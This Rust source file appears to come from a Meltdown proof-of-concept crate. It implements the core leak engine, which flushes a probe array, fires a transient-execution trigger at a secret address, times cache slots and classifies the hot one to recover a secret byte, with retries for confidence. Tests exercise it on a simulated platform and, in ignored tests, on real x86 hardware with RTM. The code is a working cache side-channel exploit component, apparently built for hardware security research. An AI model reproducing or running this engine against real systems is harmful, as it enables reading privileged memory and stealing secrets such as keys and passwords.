use crate::config::{Config, TriggerSchedule};
use crate::error::MeltdownError;
use crate::trigger::{Trigger, TriggerOutcome, Variant};

use cache_side_channel::oracle::measure_slots;
use cache_side_channel::{classify, Classification, LatencyTable, ObservationArray};
use cache_utils::Platform;
use std::cell::Cell;
use tracing::{debug, warn};

#[derive(Debug, Clone)]
pub struct Recovery {
    pub classification: Classification,
    /// Table of the attempt the classification came from.
    pub table: LatencyTable,
    pub attempts: u32,
}

/// Flush, trigger and time every slot, classify.
pub struct Engine<P: Platform> {
    platform: P,
    array: ObservationArray,
    trigger: Trigger,
    config: Config,
}

impl<P: Platform> Engine<P> {
    pub fn new(platform: P, variant: Variant, config: Config) -> Result<Engine<P>, MeltdownError> {
        config.validate()?;
        let array = ObservationArray::for_bytes(config.slot_shift)?;
        let trigger = Trigger::new(&platform, variant, &config)?;
        Ok(Engine {
            platform,
            array,
            trigger,
            config,
        })
    }

    pub fn platform(&self) -> &P {
        &self.platform
    }

    pub fn array(&self) -> &ObservationArray {
        &self.array
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    /// One pass over the array, starting from a full flush.
    ///
    /// # Safety
    ///
    /// See [`Trigger::fire`].
    pub unsafe fn leak_once(&self, secret: *const u8) -> LatencyTable {
        let probe = self.array.base();
        let aborted = Cell::new(0u32);
        let fire = || {
            if unsafe { self.trigger.fire(&self.platform, secret, probe) } == TriggerOutcome::Aborted {
                aborted.set(aborted.get() + 1);
            }
        };

        self.array.flush_all(&self.platform);
        if self.config.schedule == TriggerSchedule::Once {
            fire();
        }
        let samples = measure_slots(&self.platform, &self.array, |_| {
            if self.config.schedule == TriggerSchedule::PerSlot {
                fire();
            }
        });
        if aborted.get() > 0 {
            debug!(aborted = aborted.get(), "transactions aborted");
        }
        LatencyTable::new(samples)
    }

    /// Repeat [`Engine::leak_once`] until the classification is confident or
    /// `max_attempts` runs were made; the last run is returned in that case.
    ///
    /// # Safety
    ///
    /// See [`Trigger::fire`].
    pub unsafe fn recover(&self, secret: *const u8) -> Recovery {
        let mut attempts = 0;
        loop {
            attempts += 1;
            let table = unsafe { self.leak_once(secret) };
            let classification = classify(&table, self.config.hot_ratio);
            debug!(
                attempts,
                slot = classification.slot,
                latency = classification.latency,
                confidence = ?classification.confidence,
                "leak attempt"
            );
            if classification.is_confident() || attempts >= self.config.max_attempts {
                if !classification.is_confident() {
                    warn!(
                        attempts,
                        slot = classification.slot,
                        confidence = ?classification.confidence,
                        "low confidence result"
                    );
                }
                return Recovery {
                    classification,
                    table,
                    attempts,
                };
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cache_side_channel::{CacheStatus, Confidence, NoiseKind};
    use cache_utils::calibration::{calibrate_access, HistParams, Verbosity};
    use cache_utils::sim::{SimulatedPlatform, SIM_HIT_LATENCY, SIM_MISS_LATENCY};
    use cache_utils::x86::X86Platform;
    use cache_utils::ZeroGuard;

    fn sim_config() -> Config {
        Config {
            contain_faults: false,
            pin_core: false,
            ..Default::default()
        }
    }

    #[test]
    fn flush_leaves_every_slot_cold() {
        let engine = Engine::new(SimulatedPlatform::new(), Variant::Hardened, sim_config()).unwrap();
        engine.array().flush_all(engine.platform());
        let samples = measure_slots(engine.platform(), engine.array(), |_| {});
        assert!(samples.iter().all(|&t| t as u64 > SIM_MISS_LATENCY));
    }

    #[test]
    fn one_trigger_warms_only_the_secret_slot() {
        for &schedule in [TriggerSchedule::Once, TriggerSchedule::PerSlot].iter() {
            let config = Config {
                schedule,
                ..sim_config()
            };
            let engine = Engine::new(SimulatedPlatform::new(), Variant::Baseline, config).unwrap();
            for &v in [0x01u8, 0x41, 0x80, 0xff].iter() {
                let table = unsafe { engine.leak_once(&v) };
                for (slot, latency) in table.iter() {
                    if slot == v as usize {
                        assert_eq!(latency as u64, SIM_HIT_LATENCY + 1);
                    } else {
                        assert_eq!(latency as u64, SIM_MISS_LATENCY + 1);
                    }
                }
            }
        }
    }

    #[test]
    fn guarded_trigger_tells_zero_from_nothing() {
        let zero: u8 = 0;
        let secret: u8 = 0x41;
        let recovered = |guard: ZeroGuard, value: &u8, rolled_back: u32| {
            let config = Config {
                zero_guard: guard,
                schedule: TriggerSchedule::Once,
                max_attempts: 1,
                ..sim_config()
            };
            let platform = SimulatedPlatform::new().with_rolled_back_reads(rolled_back);
            let engine = Engine::new(platform, Variant::Hardened, config).unwrap();
            unsafe { engine.recover(value) }.classification.slot
        };

        // Naive: a leaked zero and a read that was rolled back look the same.
        assert_eq!(recovered(ZeroGuard::Disabled, &zero, 0), 0);
        assert_eq!(recovered(ZeroGuard::Disabled, &secret, 3), 0);

        // Guarded: rolled-back reads are retried, a real zero still lands on slot 0.
        assert_eq!(recovered(ZeroGuard::Retry(16), &zero, 0), 0);
        assert_eq!(recovered(ZeroGuard::Retry(16), &secret, 3), 0x41);
    }

    #[test]
    fn rerun_after_flush_gives_the_same_answer() {
        let engine = Engine::new(SimulatedPlatform::new(), Variant::Hardened, sim_config()).unwrap();
        let secret: u8 = 0x5a;
        let first = unsafe { engine.recover(&secret) };
        let second = unsafe { engine.recover(&secret) };
        assert_eq!(first.classification.slot, 0x5a);
        assert_eq!(first.classification, second.classification);
        assert_eq!(first.table, second.table);
        assert_eq!(first.attempts, 1);
    }

    #[test]
    fn noisy_runs_are_repeated_up_to_the_limit() {
        // Every slot hits: nothing stands out, so every attempt is noisy.
        let platform = SimulatedPlatform::new().with_latencies(SIM_HIT_LATENCY, SIM_HIT_LATENCY);
        let config = Config {
            max_attempts: 4,
            ..sim_config()
        };
        let engine = Engine::new(platform, Variant::Hardened, config).unwrap();
        let secret: u8 = 0x10;
        let recovery = unsafe { engine.recover(&secret) };
        assert_eq!(recovery.attempts, 4);
        assert_eq!(recovery.classification.slot, 0);
        assert_eq!(
            recovery.classification.confidence,
            Confidence::Noisy(NoiseKind::NoHotSlot)
        );
    }

    #[test]
    fn invalid_config_is_rejected_before_allocating() {
        let config = Config {
            hot_ratio: 0,
            ..sim_config()
        };
        assert!(matches!(
            Engine::new(SimulatedPlatform::new(), Variant::Hardened, config),
            Err(MeltdownError::InvalidConfig(_))
        ));
    }

    fn hardware_engine(variant: Variant) -> Option<Engine<X86Platform>> {
        let platform = X86Platform::new();
        if variant == Variant::Hardened && !platform.supports_transactions() {
            return None;
        }
        Some(Engine::new(platform, variant, Config::default()).unwrap())
    }

    fn hardware_threshold(engine: &Engine<X86Platform>) -> cache_utils::calibration::Threshold {
        let line = engine.array().slot(0);
        unsafe { calibrate_access(engine.platform(), line, HistParams::default(), Verbosity::NoOutput) }
            .threshold
    }

    #[test]
    #[ignore] // timing on real hardware
    fn hardware_flush_leaves_every_slot_cold() {
        let engine = hardware_engine(Variant::Baseline).unwrap();
        let threshold = hardware_threshold(&engine);
        engine.array().flush_all(engine.platform());
        let table = LatencyTable::new(measure_slots(engine.platform(), engine.array(), |_| {}));
        let hits = table.status(&threshold).iter().filter(|&&s| s == CacheStatus::Hit).count();
        assert!(hits <= 2, "{} slots looked resident right after the flush", hits);
    }

    #[test]
    #[ignore] // timing on real hardware, needs RTM
    fn hardware_recovers_known_secret() {
        let engine = match hardware_engine(Variant::Hardened) {
            Some(engine) => engine,
            None => return,
        };
        let threshold = hardware_threshold(&engine);
        let secret: u8 = 0x41;
        let mut last = None;
        for _ in 0..5 {
            let recovery = unsafe { engine.recover(&secret) };
            let status = recovery.table.status(&threshold);
            let hot = status.iter().filter(|&&s| s == CacheStatus::Hit).count();
            if recovery.classification.slot == 0x41 && status[0x41] == CacheStatus::Hit && hot <= 3 {
                return;
            }
            last = Some(recovery.classification);
        }
        panic!("secret not recovered, last classification {:?}", last);
    }
}
